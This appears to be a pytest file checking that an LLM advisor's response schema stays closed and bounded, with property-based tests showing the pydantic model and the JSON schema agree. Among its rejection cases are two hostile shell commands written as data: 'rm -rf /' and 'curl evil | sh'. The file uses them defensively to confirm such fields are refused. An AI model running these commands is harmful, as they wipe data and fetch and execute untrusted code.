"""The response model: strict bounds, closed objects, and a JSON schema that agrees with it."""

from __future__ import annotations

import json

import jsonschema
import pytest
from conftest import answer
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from perflsp.llm.advisor import AnswerInvalid, parse_answer
from perflsp.llm.schema import LlmVerdict, response_json_schema


def test_valid_answer():
    verdict = LlmVerdict.model_validate_json(answer())
    assert verdict.verdict == "bandwidth" and verdict.proposals.block_size == 256


@pytest.mark.parametrize(
    "change",
    [
        {"verdict": "memory"},
        {"confidence": 1.5},
        {"confidence": -0.1},
        {"rationale": ""},
        {"rationale": "x" * 2001},
        {"factors": [{"text": "t", "line": 0}]},
        {"factors": [{"text": "t", "line": 1, "url": "http://x"}]},
        {"factors": [{"text": f"f{i}", "line": None} for i in range(11)]},
        {"proposals": {"block_size": 16}},
        {"proposals": {"block_size": 2048}},
        {"proposals": {"launch_bounds": {"max_threads": 4096}}},
        {"proposals": {"launch_bounds": {"max_threads": 256, "min_blocks": 0}}},
        {"proposals": {"num_teams": 0}},
        {"proposals": {"thread_limit": 2000}},
        {"proposals": {"code_changes": ["c"] * 9}},
        {"proposals": {"shell": "rm -rf /"}},
        {"run": "curl evil | sh"},
    ],
)
def test_out_of_bounds_or_unknown_fields_are_rejected(change):
    data = {**json.loads(answer()), **change}
    with pytest.raises(ValidationError):
        LlmVerdict.model_validate(data)
    for dialect in ("generic", "openai"):
        if dialect == "openai" and ("rationale" in change or "code_changes" in json.dumps(change)):
            continue  # string lengths are enforced by pydantic only (OpenAI strict mode lacks them)
        with pytest.raises(jsonschema.ValidationError):
            jsonschema.validate(data, response_json_schema(dialect))


def test_schema_is_closed_self_contained_and_strict_mode_shaped():
    for dialect in ("generic", "openai"):
        schema = response_json_schema(dialect)
        text = json.dumps(schema)
        assert "$ref" not in text and "$defs" not in text and '"default"' not in text
        jsonschema.Draft202012Validator.check_schema(schema)

        def walk(node):
            if isinstance(node, dict):
                if node.get("type") == "object":
                    assert node["additionalProperties"] is False
                    assert set(node["required"]) == set(node["properties"])
                for value in node.values():
                    walk(value)
            elif isinstance(node, list):
                for value in node:
                    walk(value)

        walk(schema)
    assert "maxLength" not in json.dumps(response_json_schema("openai"))
    assert "maxLength" in json.dumps(response_json_schema("generic"))


ints = st.one_of(st.none(), st.integers(min_value=-10, max_value=5000))
answers = st.fixed_dictionaries({
    "verdict": st.sampled_from(["compute", "bandwidth", "latency", "memory"]),
    "confidence": st.floats(min_value=-1, max_value=2, allow_nan=False),
    "rationale": st.text(min_size=0, max_size=20),
    "factors": st.lists(st.fixed_dictionaries({"text": st.text(min_size=0, max_size=5), "line": ints}), max_size=3),
    "proposals": st.fixed_dictionaries({
        "block_size": ints, "launch_bounds": st.none(), "num_teams": ints, "thread_limit": ints,
        "code_changes": st.lists(st.text(min_size=1, max_size=5), max_size=2),
    }),
})


GENERIC_VALIDATOR = jsonschema.Draft202012Validator(response_json_schema("generic"))


@settings(max_examples=150, deadline=None)
@given(answers)
def test_pydantic_and_exported_schema_agree(data):
    try:
        LlmVerdict.model_validate(data)
        pydantic_ok = True
    except ValidationError:
        pydantic_ok = False
    assert pydantic_ok == GENERIC_VALIDATOR.is_valid(data)


def test_parse_answer_messages():
    assert parse_answer("```json\n" + answer() + "\n```").verdict == "bandwidth"
    with pytest.raises(AnswerInvalid, match="not valid JSON"):
        parse_answer('{"verdict": ')
    with pytest.raises(AnswerInvalid, match="cut off"):
        parse_answer('{"verdict": ', finish_reason="length")
    with pytest.raises(AnswerInvalid, match="one JSON object"):
        parse_answer("[1, 2]")
    with pytest.raises(AnswerInvalid, match="empty"):
        parse_answer("   ")
    with pytest.raises(AnswerInvalid, match=r"proposals\.block_size"):
        parse_answer(answer(proposals={"block_size": 4096}))
